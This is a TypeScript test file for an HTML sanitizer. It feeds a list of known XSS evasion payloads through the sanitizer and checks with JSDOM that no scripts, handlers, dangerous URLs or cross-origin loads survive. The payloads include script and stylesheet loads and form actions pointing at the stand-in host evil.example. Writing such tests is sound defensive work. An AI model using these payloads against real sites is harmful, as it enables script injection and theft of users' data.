import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from './sanitizeHtml';

const ORIGIN = 'https://oyna127.example';
const clean = (html: string) => sanitizeHtml(html, ORIGIN);

/**
 * Vectors after OWASP's XSS filter evasion cheat sheet and DOMPurify's own test suite: each would
 * run script, load something from another origin or reshape the page if it got through.
 */
const PAYLOADS: readonly string[] = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<img src=x onerror=alert(1)//>`,
  `<img src="https://evil.example/p.png" onerror="alert(1)">`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<img srcset="https://evil.example/a.png 1x">`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<p onmouseover="alert(1)">hover</p>`,
  `<details open ontoggle=alert(1)>`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt&colon;alert(1)">x</a>`,
  `<a href="&#x6A;avascript:alert(1)">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
  `<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICKME</maction></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<template><script>alert(1)</script></template>`,
  `<STYLE>@import'https://evil.example/xss.css';</STYLE>`,
  `<div style="background-image: url(https://evil.example/bg.png)">x</div>`,
  `<div style="width: expression(alert('XSS'));">x</div>`,
  `<LINK REL="stylesheet" HREF="https://evil.example/xss.css">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=https://evil.example">`,
  `<BASE HREF="https://evil.example/">`,
  `<IFRAME SRC="https://evil.example"></IFRAME>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="https://evil.example/embed.swf">`,
  `<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)><button formaction="https://evil.example">go</button></form>`,
  `<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4" onerror="alert(1)"></video>`,
  `<a href="https://evil.example" ping="https://evil.example/ping">x</a>`,
  `<p data-bind="alert(1)">x</p>`,
];

/** What the browser would do with the result: anything that runs, loads from elsewhere or restyles. */
function dangers(html: string): string[] {
  const { document } = new JSDOM(`<!doctype html><body>${html}</body>`).window;
  const found: string[] = [];
  for (const element of document.body.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    if (['script', 'style', 'link', 'meta', 'base', 'iframe', 'object', 'embed', 'form', 'svg', 'math', 'template', 'noscript'].includes(tag)) found.push(`<${tag}>`);
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on') || name === 'style' || name === 'srcset' || name === 'ping' || name.startsWith('data-') || name === 'formaction') found.push(`${tag}[${name}]`);
      if (['href', 'src', 'action', 'poster', 'xlink:href'].includes(name)) {
        const url = new URL(value, `${ORIGIN}/`);
        if (!['http:', 'https:', 'mailto:', 'tel:'].includes(url.protocol)) found.push(`${tag}[${name}=${value}]`);
        if (name !== 'href' && url.origin !== ORIGIN) found.push(`${tag}[${name}] from ${url.origin}`);
      }
    }
    if (tag === 'a' && element.getAttribute('target') === '_blank' && element.getAttribute('rel') !== 'noopener noreferrer') found.push('a without rel');
  }
  return found;
}

describe('sanitizeHtml', () => {
  it('keeps the content an editor writes', () => {
    const html =
      '<h2>Oyna hakkında</h2><p>Güvenli <strong>eğlence</strong>. <a href="/pages/7">İletişim</a></p><ul><li>Bir</li></ul>' +
      '<table><thead><tr><th>Maç</th></tr></thead><tbody><tr><td>5–6</td></tr></tbody></table><img src="/api/cms/media/banner/a.tr/720x360.svg" alt="Afiş" width="720" height="360">';
    expect(clean(html)).toBe(html);
  });

  it.each(PAYLOADS)('leaves nothing dangerous of %s', (payload) => {
    // Text that reads 'alert(1)' is harmless; what matters is what the browser would parse it into.
    const safe = clean(`<p>önce</p>${payload}<p>sonra</p>`);
    expect(dangers(safe)).toEqual([]);
    expect(safe.startsWith('<p>önce</p>')).toBe(true);
  });

  it('sends links to other sites to a new tab without opener or referrer, and keeps own links in place', () => {
    expect(clean('<a href="https://blog.oyna.example/x" target="_self">blog</a>')).toBe('<a href="https://blog.oyna.example/x" target="_blank" rel="noopener noreferrer">blog</a>');
    expect(clean(`<a href="${ORIGIN}/promotions" target="_blank" rel="opener">ours</a>`)).toBe(`<a href="${ORIGIN}/promotions">ours</a>`);
    expect(clean('<a href="/pages/5">rules</a>')).toBe('<a href="/pages/5">rules</a>');
    expect(clean('<a href="mailto:destek@oyna.example">mail</a>')).toBe('<a href="mailto:destek@oyna.example">mail</a>');
  });

  it("prefixes ids and names so they cannot clobber the page's own", () => {
    expect(clean('<p id="oyna-bootstrap">x</p>')).toBe('<p id="user-content-oyna-bootstrap">x</p>');
  });
});
